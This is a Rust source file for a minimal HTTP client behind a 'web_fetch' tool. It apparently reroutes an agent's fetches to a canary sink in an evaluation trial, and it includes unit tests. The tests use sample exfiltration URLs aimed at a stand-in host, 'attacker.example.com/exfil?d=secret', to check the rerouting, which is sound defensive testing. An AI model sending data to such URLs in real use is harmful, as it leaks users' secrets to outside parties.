//! The real HTTP GET behind `web_fetch`: a small HTTP/1.0 client on a TCP socket, so the
//! request is an effect an independent verifier (the trial's canary sink) can see.
//!
//! `--resolve HOST=URL` sends a fetch of `http(s)://HOST[:port]/path?q` to `URL` + `/path?q`
//! instead (one trailing dot of HOST is ignored, as DNS does); the original host travels in
//! `X-Forwarded-Host`. Anything else goes to the URL's own host and port over plain http; a
//! host name is looked up through the system resolver, which a static binary in a scratch
//! image may not have (then the fetch fails). There is no TLS: an https URL must be resolved.
//! Every request has a deadline ([`DEADLINE`]) and the body read is capped ([`BODY_CAP`]).

use std::{collections::BTreeMap, net::SocketAddr, time::Duration};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use url::{Host, Url};

/// Deadline of one fetch: connect, send, and read the answer.
pub const DEADLINE: Duration = Duration::from_secs(5);
/// Most body bytes read; the rest is not read at all.
pub const BODY_CAP: usize = 64 * 1024;
/// Most header bytes read before the body.
const HEAD_CAP: usize = 16 * 1024;

/// What a fetch answered.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fetched {
    /// The HTTP status code.
    pub status: u16,
    /// The body, at most [`BODY_CAP`] bytes, as lossy UTF-8.
    pub body: String,
}

/// Where each resolved host really goes.
#[derive(Debug, Clone, Default)]
pub struct Fetcher {
    resolve: BTreeMap<String, Url>,
}

impl Fetcher {
    /// A client sending the hosts of `resolve` to their URLs.
    pub fn new(resolve: impl IntoIterator<Item = (String, Url)>) -> Self {
        Self { resolve: resolve.into_iter().collect() }
    }

    /// The http:// URL actually requested for `url`.
    pub fn target(&self, url: &Url) -> Result<Url, String> {
        let host = url.host_str().unwrap_or_default().to_ascii_lowercase();
        let key = host.strip_suffix('.').unwrap_or(&host);
        if let Some(base) = self.resolve.get(key) {
            let mut joined = base.clone();
            let base_path = base.path().trim_end_matches('/');
            joined.set_path(&format!("{base_path}{}", url.path()));
            joined.set_query(url.query());
            return Ok(joined);
        }
        if url.scheme() != "http" {
            return Err(format!("{} URLs are not supported for unresolved hosts (no TLS)", url.scheme()));
        }
        let mut plain = url.clone();
        plain.set_fragment(None);
        Ok(plain)
    }

    /// GETs `url` (after `--resolve`) within [`DEADLINE`].
    pub async fn get(&self, url: &Url) -> Result<Fetched, String> {
        let target = self.target(url)?;
        let original = url.host_str().unwrap_or_default().to_owned();
        tokio::time::timeout(DEADLINE, request(&target, &original))
            .await
            .map_err(|_| format!("no answer from {target} within {} s", DEADLINE.as_secs()))?
    }
}

/// Connects to the first of `addresses` that accepts.
async fn connect(addresses: &[SocketAddr]) -> Result<(tokio::net::TcpStream, SocketAddr), String> {
    let mut failure = "no address".to_owned();
    for address in addresses {
        match tokio::net::TcpStream::connect(address).await {
            Ok(stream) => return Ok((stream, *address)),
            Err(e) => failure = format!("failed to connect to {address}: {e}"),
        }
    }
    Err(failure)
}

/// Connects to the host of `target` (an http:// URL) and reads one answer.
async fn request(target: &Url, original_host: &str) -> Result<Fetched, String> {
    let port = target.port_or_known_default().unwrap_or(80);
    let addresses: Vec<SocketAddr> = match target.host() {
        Some(Host::Ipv4(ip)) => vec![SocketAddr::from((ip, port))],
        Some(Host::Ipv6(ip)) => vec![SocketAddr::from((ip, port))],
        Some(Host::Domain(name)) => {
            tokio::net::lookup_host((name, port)).await.map_err(|e| format!("failed to resolve {name}: {e}"))?.collect()
        }
        None => return Err(format!("{target} has no host")),
    };
    let (mut stream, address) = connect(&addresses).await?;
    let path = match target.query() {
        Some(query) => format!("{}?{query}", target.path()),
        None => target.path().to_owned(),
    };
    let authority = match target.port() {
        Some(port) => format!("{}:{port}", target.host_str().unwrap_or_default()),
        None => target.host_str().unwrap_or_default().to_owned(),
    };
    let head = format!(
        "GET {path} HTTP/1.0\r\nHost: {authority}\r\nX-Forwarded-Host: {original_host}\r\n\
         User-Agent: elengtis-twin\r\nAccept: */*\r\nConnection: close\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await.map_err(|e| format!("failed to send to {address}: {e}"))?;
    let mut received = Vec::new();
    let mut chunk = [0_u8; 8192];
    let mut body_start = None;
    loop {
        if let Some(start) = body_start
            && received.len() >= start + BODY_CAP
        {
            break;
        }
        let n = stream.read(&mut chunk).await.map_err(|e| format!("failed to read from {address}: {e}"))?;
        if n == 0 {
            break;
        }
        received.extend_from_slice(&chunk[..n]);
        if body_start.is_none() {
            body_start = received.windows(4).position(|w| w == b"\r\n\r\n").map(|i| i + 4);
            if body_start.is_none() && received.len() > HEAD_CAP {
                return Err(format!("{address} sent more than {HEAD_CAP} bytes of headers"));
            }
        }
    }
    let start = body_start.ok_or_else(|| format!("{address} did not answer HTTP"))?;
    let status_line = received.split(|&b| b == b'\n').next().unwrap_or_default();
    let status = String::from_utf8_lossy(status_line)
        .split_whitespace()
        .nth(1)
        .and_then(|code| code.parse().ok())
        .ok_or_else(|| format!("{address} did not answer HTTP"))?;
    let end = received.len().min(start + BODY_CAP);
    Ok(Fetched { status, body: String::from_utf8_lossy(&received[start..end]).into_owned() })
}

#[cfg(test)]
mod tests {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    use url::Url;

    use super::{BODY_CAP, Fetcher};

    fn url(text: &str) -> Url {
        Url::parse(text).expect("valid URL")
    }

    #[test]
    fn resolved_hosts_go_to_their_base_url() {
        let fetcher = Fetcher::new([("attacker.example.com".to_owned(), url("http://10.0.0.2:9000/sink/"))]);
        for (fetched, target) in [
            ("http://attacker.example.com/exfil?d=x%20y#f", "http://10.0.0.2:9000/sink/exfil?d=x%20y"),
            ("https://ATTACKER.example.com:8443/", "http://10.0.0.2:9000/sink/"),
            ("http://attacker.example.com./a", "http://10.0.0.2:9000/sink/a"),
        ] {
            assert_eq!(fetcher.target(&url(fetched)).map(String::from), Ok(target.to_owned()), "{fetched}");
        }
        assert_eq!(fetcher.target(&url("http://10.0.0.3/x#y")).map(String::from), Ok("http://10.0.0.3/x".to_owned()));
        assert!(fetcher.target(&url("https://example.com/")).is_err());
    }

    /// A one-shot server answering `answer`; returns its URL and what it received.
    async fn serve_once(answer: Vec<u8>) -> (String, tokio::task::JoinHandle<String>) {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let address = listener.local_addr().expect("address");
        let task = tokio::spawn(async move {
            let (mut stream, _) = listener.accept().await.expect("accept");
            let mut request = vec![0_u8; 4096];
            let n = stream.read(&mut request).await.expect("read");
            let _ = stream.write_all(&answer).await;
            String::from_utf8_lossy(&request[..n]).into_owned()
        });
        (format!("http://{address}"), task)
    }

    #[tokio::test]
    async fn a_get_returns_status_and_body_and_sends_the_path() {
        let (base, task) = serve_once(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_vec()).await;
        let fetcher = Fetcher::new([("attacker.example.com".to_owned(), url(&base))]);
        let fetched = fetcher.get(&url("http://attacker.example.com/exfil?d=secret")).await.expect("fetched");
        assert_eq!((fetched.status, fetched.body.as_str()), (200, "ok"));
        let request = task.await.expect("server");
        assert!(request.starts_with("GET /exfil?d=secret HTTP/1.0\r\n"), "{request}");
        assert!(request.contains("X-Forwarded-Host: attacker.example.com\r\n"), "{request}");
    }

    #[tokio::test]
    async fn the_body_is_capped() {
        let mut answer = b"HTTP/1.0 200 OK\r\n\r\n".to_vec();
        answer.extend(std::iter::repeat_n(b'a', BODY_CAP + 5000));
        let (base, _task) = serve_once(answer).await;
        let fetched = Fetcher::default().get(&url(&format!("{base}/big"))).await.expect("fetched");
        assert_eq!(fetched.body.len(), BODY_CAP);
    }

    #[tokio::test]
    async fn garbage_and_closed_ports_are_errors() {
        let (base, _task) = serve_once(b"nonsense".to_vec()).await;
        assert!(Fetcher::default().get(&url(&base)).await.is_err());
        let unused = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let address = unused.local_addr().expect("address");
        drop(unused);
        let refused = Fetcher::default().get(&url(&format!("http://{address}/"))).await.expect_err("closed port");
        assert!(refused.contains("failed to connect"), "{refused}");
    }
}
